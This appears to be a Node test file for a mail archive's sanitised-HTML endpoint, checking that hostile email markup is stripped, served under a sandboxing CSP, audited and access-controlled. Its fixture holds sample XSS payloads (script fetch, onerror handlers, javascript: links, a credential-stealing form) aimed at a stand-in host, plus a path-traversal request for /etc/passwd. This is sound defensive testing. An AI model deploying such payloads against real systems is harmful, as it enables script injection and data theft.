// GET /api/v1/messages/:id/html through real sockets: the HTML part is sanitised server-side
// (no script, handlers, forms, frames, links or remote images; cid: images embedded), served
// with a CSP that keeps it inert in a sandboxed frame, audited, and disclosed to legal only.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { buildJournalReport, buildMail } from './fixtures/mail.ts';
import { journalHttp, login, removeDir, startTestStele, TEST_ADMIN_PASSWORD, type TestStele } from './harness.ts';
import { MESSAGE_HTML_CSP, sanitiseMessageHtml } from '../server/http/message-html.ts';

const PASSWORD = 'quiet harbour 48 lanterns';
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

const HOSTILE = [
  '<html><head><base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">',
  '<link rel="stylesheet" href="http://evil.example/a.css">',
  '<style>@import url(http://evil.example/b.css); body { background: url("http://evil.example/bg.png"); color: #123456 }</style></head>',
  '<body onload="parent.document.title=\'pwned\'"><h1>Quarterly numbers</h1>',
  '<script>document.body.dataset.pwned = 1; fetch("http://evil.example/x")</script>',
  '<p style="background-image:url(http://evil.example/p.png);font-weight:bold">Revenue <b>up</b></p>',
  '<img src="http://evil.example/tracker.png" onerror="parent.document.title=\'pwned\'" alt="logo">',
  '<img src="cid:chart@acme" alt="chart"><img srcset="http://evil.example/s.png 2x">',
  '<a href="javascript:alert(1)">click</a> <a href="https://evil.example/phish">statement</a>',
  '<iframe src="http://evil.example/f"></iframe><object data="http://evil.example/o"></object><embed src="http://evil.example/e">',
  '<form action="http://evil.example/steal"><input name="pw"><button>Send</button></form>',
  '<svg><image href="http://evil.example/svg.png"/></svg><table background="http://evil.example/t.png"><tr><td>cell</td></tr></table>',
  '</body></html>',
].join('\n');

const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');

/** A multipart/related message: text, the hostile HTML and an inline image referenced by cid. */
function hostileMail(): Buffer {
  const b = 'rel_0123456789';
  return Buffer.from([
    'From: Mallory <mallory@evil.example>', 'To: cfo@acme.example', 'Subject: Quarterly numbers',
    'Date: Mon, 02 Mar 2026 10:00:00 +0000', 'Message-ID: <hostile-1@evil.example>', 'MIME-Version: 1.0',
    `Content-Type: multipart/related; boundary="${b}"`, '',
    `--${b}`, 'Content-Type: text/html; charset=utf-8', '', HOSTILE,
    `--${b}`, 'Content-Type: image/png', 'Content-ID: <chart@acme>', 'Content-Transfer-Encoding: base64', '', PNG.toString('base64'),
    `--${b}--`, '',
  ].join('\r\n'));
}

describe('sanitiseMessageHtml', () => {
  it('keeps the content and drops everything that runs or fetches', () => {
    const out = sanitiseMessageHtml(HOSTILE).html;
    for (const text of ['Quarterly numbers', 'Revenue', '<b>up</b>', 'statement', 'cell', 'color: #123456', 'font-weight:bold']) assert.ok(out.includes(text), text);
    for (const bad of ['<script', 'onload', 'onerror', 'javascript:', 'evil.example/x', '<iframe', '<object', '<embed', '<form', '<input', '<base', '<meta', '<link', 'srcset', 'background=']) {
      assert.ok(!out.toLowerCase().includes(bad), `${bad} survived`);
    }
    assert.doesNotMatch(out, /(src|href)="https?:/i, 'no remote src/href');
    assert.doesNotMatch(out, /url\(/i, 'no CSS url()');
    assert.doesNotMatch(out, /@import/i);
    assert.match(out, /title="Link \(not followed\): https:\/\/evil\.example\/phish"/);
  });
});

describe('GET /api/v1/messages/:id/html', () => {
  let s: TestStele;
  const raw = hostileMail();
  const id = sha(raw);
  const plain = buildMail({ subject: 'Plain only', text: 'no html here' });
  const journaled = buildJournalReport(buildMail({ subject: 'Wrapped', html: '<p>inside <i>the report</i></p>' }), ['Sender: alice@clinic.example', 'To: bob@clinic.example']);

  before(async () => {
    s = await startTestStele();
    for (const m of [raw, plain, journaled]) assert.equal((await journalHttp(s.httpUrl, m)).status, 201);
    await s.caughtUp();
    await s.createUser('lena', ['legal'], PASSWORD);
  });
  after(async () => {
    await s.stop();
    await removeDir(s.dataDir);
  });

  it('answers the sanitised page with a CSP that forbids scripts and remote loads, audited as the reader', async () => {
    const lena = await login(s, 'lena', PASSWORD);
    const res = await lena.fetch(`/api/v1/messages/${id}/html`);
    assert.equal(res.status, 200);
    assert.equal(res.headers.get('content-security-policy'), MESSAGE_HTML_CSP);
    assert.match(res.headers.get('content-security-policy')!, /sandbox(;|$)/);
    assert.doesNotMatch(res.headers.get('content-security-policy')!, /allow-scripts|allow-same-origin/);
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(res.headers.get('cache-control'), 'no-store');
    assert.equal(res.headers.get('x-frame-options'), null, 'the UI frames it (frame-ancestors self)');
    assert.match(res.headers.get('content-type')!, /^text\/html; charset=utf-8/);
    const page = await res.text();
    assert.ok(page.includes('Quarterly numbers') && page.includes('Revenue'));
    assert.ok(!/<script|onerror|onload|evil\.example\/(x|tracker|f|o|e|steal)"/i.test(page));
    assert.ok(page.includes(`src="data:image/png;base64,${PNG.toString('base64')}"`), 'the cid: image is embedded');
    assert.match(page, /\[image not loaded: logo\]/);
    const events = s.core.ledger.query({ types: ['message.html_viewed'], subject: id });
    assert.equal(events.length, 1);
    assert.equal(events[0]!.actor, 'lena');
    assert.ok((events[0]!.data.remoteBlocked as number) >= 2);

    const view = (await (await lena.fetch(`/api/v1/messages/${id}`)).json()) as { hasHtml: boolean };
    assert.equal(view.hasHtml, true);
  });

  it('opens a journal report to its original, and 404s a message without HTML', async () => {
    const lena = await login(s, 'lena', PASSWORD);
    const inner = await lena.fetch(`/api/v1/messages/${sha(journaled)}/html`);
    assert.equal(inner.status, 200);
    assert.match(await inner.text(), /<p>inside <i>the report<\/i><\/p>/);
    const none = await lena.fetch(`/api/v1/messages/${sha(plain)}/html`);
    assert.equal(none.status, 404);
    assert.equal(((await (await lena.fetch(`/api/v1/messages/${sha(plain)}`)).json()) as { hasHtml: boolean }).hasHtml, false);
    assert.equal((await lena.fetch('/api/v1/messages/..%2F..%2Fetc%2Fpasswd/html')).status, 400);
  });

  it('is refused without a session and to roles that never read content', async () => {
    assert.equal((await fetch(`${s.httpUrl}/api/v1/messages/${id}/html`)).status, 401);
    const admin = await login(s, 'admin', TEST_ADMIN_PASSWORD);
    const refused = await admin.fetch(`/api/v1/messages/${id}/html`);
    assert.equal(refused.status, 403);
    assert.ok(!(await refused.text()).includes('Quarterly'));
  });
});
